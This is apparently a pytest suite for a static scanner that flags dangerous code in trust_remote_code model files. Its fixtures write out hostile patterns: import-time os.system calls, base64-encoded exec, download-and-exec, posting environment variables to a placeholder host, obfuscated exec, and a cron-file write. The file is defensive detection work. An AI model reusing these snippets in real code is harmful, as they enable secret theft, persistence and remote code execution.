"""Python scanner: static analysis of trust_remote_code modules, by when code runs."""

from __future__ import annotations

import base64
import sysconfig
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelward import Severity, scan_bytes, scan_path

SITE = Path(sysconfig.get_paths()["purelib"])

MODELING = '''\
"""PyTorch Custom model."""
import math
from typing import Optional

import torch
from torch import nn
from transformers import PreTrainedModel
from transformers.utils import logging

from .configuration_custom import CustomConfig

logger = logging.get_logger(__name__)


class CustomAttention(nn.Module):
    def __init__(self, config: CustomConfig):
        super().__init__()
        self.q = nn.Linear(config.hidden_size, config.hidden_size)
        self.scale = 1 / math.sqrt(config.hidden_size)

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> torch.Tensor:
        scores = self.q(x) @ x.transpose(-1, -2) * self.scale
        if mask is not None:
            scores = scores.masked_fill(mask == 0, float("-inf"))
        return scores.softmax(-1) @ x


class CustomPreTrainedModel(PreTrainedModel):
    config_class = CustomConfig
    base_model_prefix = "custom"

    def _init_weights(self, module):
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=self.config.initializer_range)


class CustomModel(CustomPreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.layers = nn.ModuleList([CustomAttention(config) for _ in range(config.n_layers)])
        self.post_init()

    def forward(self, x):
        for layer in self.layers:
            x = layer(x)
        return x
'''

CONFIGURATION = '''\
from transformers import PretrainedConfig


class CustomConfig(PretrainedConfig):
    model_type = "custom"

    def __init__(self, hidden_size=64, n_layers=2, initializer_range=0.02, **kwargs):
        self.hidden_size = hidden_size
        self.n_layers = n_layers
        self.initializer_range = initializer_range
        super().__init__(**kwargs)
'''


def rules(source: str, name: str = "modeling_x.py") -> dict[str, Severity]:
    result = scan_bytes(source.encode(), name, raise_internal=True)
    assert result.format == "python"
    out: dict[str, Severity] = {}
    for f in result.findings:
        out[f.rule.id] = max(out.get(f.rule.id, Severity.INFO), f.severity)
    return out


def test_benign_modeling_files_are_info_only() -> None:
    assert rules(MODELING) == {"MW-PY-001": Severity.INFO}
    assert rules(CONFIGURATION, "configuration_custom.py") == {"MW-PY-001": Severity.INFO}


def test_import_time_process_is_high(marker_command: str) -> None:
    src = f"import os\nos.system({marker_command!r})\n"
    assert rules(src)["MW-PY-002"] is Severity.HIGH


def test_aliased_and_dynamic_imports_resolve(marker_command: str) -> None:
    src = ("from subprocess import Popen as P\nimport importlib\n"
           f"P({marker_command!r}, shell=True)\n"
           f"importlib.import_module('os').system({marker_command!r})\n"
           f"__import__('os').popen({marker_command!r})\n")
    result = scan_bytes(src.encode(), "m.py", raise_internal=True)
    names = {f.evidence for f in result.findings if f.rule.id == "MW-PY-002"}
    assert len(names) == 3


def test_call_time_is_medium_with_function_name(marker_command: str) -> None:
    src = f"import subprocess\ndef build():\n    subprocess.run({marker_command!r}, shell=True)\n"
    result = scan_bytes(src.encode(), "m.py", raise_internal=True)
    (finding,) = [f for f in result.findings if f.rule.id == "MW-PY-003"]
    assert finding.severity is Severity.MEDIUM
    assert finding.location.node == "build:3"


def test_model_init_counts_as_load_time(marker_command: str) -> None:
    src = MODELING.replace("        self.post_init()",
                           f"        self.post_init()\n        import os\n"
                           f"        os.system({marker_command!r})")
    assert rules(src)["MW-PY-002"] is Severity.HIGH


def test_decorator_runs_local_function_at_import(marker_command: str) -> None:
    src = (f"import os\ndef register(fn):\n    os.system({marker_command!r})\n    return fn\n"
           "@register\ndef forward(x):\n    return x\n")
    assert rules(src)["MW-PY-002"] is Severity.HIGH


def test_exec_of_base64_is_critical(marker_command: str) -> None:
    blob = base64.b64encode(f"import os; os.system({marker_command!r})".encode()).decode()
    src = f"import base64\nexec(base64.b64decode({blob!r}).decode())\n"
    assert rules(src)["MW-PY-004"] is Severity.CRITICAL


def test_exec_of_literal_is_analysed(marker_command: str) -> None:
    src = f"exec(\"import os; os.system({marker_command!r})\")\n"
    result = scan_bytes(src.encode(), "m.py", raise_internal=True)
    assert any(f.rule.id == "MW-PY-002" and "os.system" in (f.evidence or "")
               for f in result.findings)


def test_download_and_exec_is_critical() -> None:
    src = "import urllib.request\nexec(urllib.request.urlopen('http://example.invalid/x').read())\n"
    assert rules(src)["MW-PY-004"] is Severity.CRITICAL


def test_env_exfiltration() -> None:
    src = ("import os, requests\n"
           "requests.post('http://example.invalid', json=dict(os.environ))\n")
    found = rules(src)
    assert found["MW-PY-006"] is Severity.HIGH
    assert found["MW-PY-002"] is Severity.HIGH


def test_obfuscation() -> None:
    src = ("import codecs\nx = codecs.decode('bf.flfgrz', 'rot13')\n"
           "f = getattr(__builtins__, 'ex' + 'ec')\n"
           f"BLOB = {('QUJD' * 100)!r}\n")
    assert rules(src)["MW-PY-005"] is Severity.HIGH


def test_file_write_outside_folder() -> None:
    src = "with open('/etc/cron.d/x', 'w') as f:\n    f.write('x')\n"
    assert rules(src)["MW-PY-007"] is Severity.HIGH


def test_main_block_is_not_import_time() -> None:
    src = "import os\nif __name__ == '__main__':\n    os.system('echo hi')\n"
    found = rules(src)
    assert "MW-PY-002" not in found and found["MW-PY-003"] is Severity.MEDIUM


def test_text_that_is_not_code_is_not_claimed() -> None:
    for text in (b'{"a": 1, "b": [true, null]}', b"torch==2.0\nnumpy\n", b"hello world",
                 b"# Model card\n\nThis model is great.\n"):
        assert scan_bytes(text, "x.txt", raise_internal=True).format != "python"


def test_pickle_named_py_is_mismatch() -> None:
    result = scan_bytes(b"\x80\x04K\x01.", "modeling_x.py", raise_internal=True)
    assert "MW-CORE-004" in {f.rule.id for f in result.findings}


@pytest.mark.parametrize("relative", [
    "torch/nn/modules/linear.py", "torch/nn/modules/module.py", "torch/optim/adam.py",
    "sklearn/linear_model/_base.py", "keras/src/layers/core/dense.py",
])
def test_installed_library_modules_are_not_high(relative: str) -> None:
    path = SITE / relative
    if not path.is_file():
        pytest.skip(f"{relative} not installed")
    findings = scan_path(path, raise_internal=True).files[0].findings
    assert max(f.severity for f in findings) < Severity.HIGH


def test_installed_subprocess_users_are_call_time() -> None:
    path = SITE / "torch/utils/cpp_extension.py"
    if not path.is_file():
        pytest.skip("torch not installed")
    findings = scan_path(path, raise_internal=True).files[0].findings
    process = [f for f in findings if f.rule.id == "MW-PY-003" and "subprocess" in f.message]
    assert process, "cpp_extension spawns compilers in functions"
    assert all(f.severity is Severity.MEDIUM for f in process)


def test_torch_init_loads_native_code_at_import() -> None:
    path = SITE / "torch/__init__.py"
    if not path.is_file():
        pytest.skip("torch not installed")
    findings = scan_path(path, raise_internal=True).files[0].findings
    assert any(f.rule.id == "MW-PY-002" and "ctypes" in f.message for f in findings)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=300))
def test_arbitrary_text_never_crashes(text: str) -> None:
    scan_bytes(text.encode(), "x.py", raise_internal=True)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from([
    "import os", "os.system('x')", "def f():", "    exec(x)", "class A:", "    y = eval('1')",
    "@f", "exec(base64.b64decode(b))", "import base64", "x = getattr(os, 'popen')",
    "if __name__ == '__main__':", "    pass", "lambda: __import__('os')",
]), max_size=12))
def test_arbitrary_code_shapes_never_crash(lines: list[str]) -> None:
    scan_bytes("\n".join(lines).encode(), "x.py", raise_internal=True)
